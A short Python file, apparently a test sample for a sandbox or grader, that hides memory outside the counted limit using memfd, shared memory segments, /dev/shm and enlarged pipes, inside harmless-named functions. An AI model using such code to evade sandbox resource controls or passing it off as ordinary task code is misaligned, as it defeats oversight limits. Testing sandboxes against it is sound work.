# Attack: keeps memory where the limit does not count it: memfd, shared segments, pipes.
# score: 0
# ruff: noqa

import ctypes
import fcntl
import mmap
import os

libc = ctypes.CDLL(None, use_errno=True)


def attack():
    held = 0
    try:
        memory = os.memfd_create("more")
        os.truncate(memory, 1 << 30)
        held += 1 << 30
    except OSError:
        pass
    if libc.shmget(0, ctypes.c_size_t(1 << 28), 0o1600) >= 0:
        held += 1 << 28
    try:
        os.ftruncate(os.open("/dev/shm/more", os.O_RDWR | os.O_CREAT), 1 << 28)
        held += 1 << 28
    except OSError:
        pass
    for _ in range(50):
        try:
            _, end = os.pipe()
            fcntl.fcntl(end, 1031, 1 << 20)
            held += 1 << 20
        except OSError:
            pass
    return held


def double(x):
    return 2 * x if attack() else None


def minimize(start, learning_rate=0.1, num_iterations=10):
    found = attack()
    print(found)
    return str(found)


def make_model():
    return str(attack())
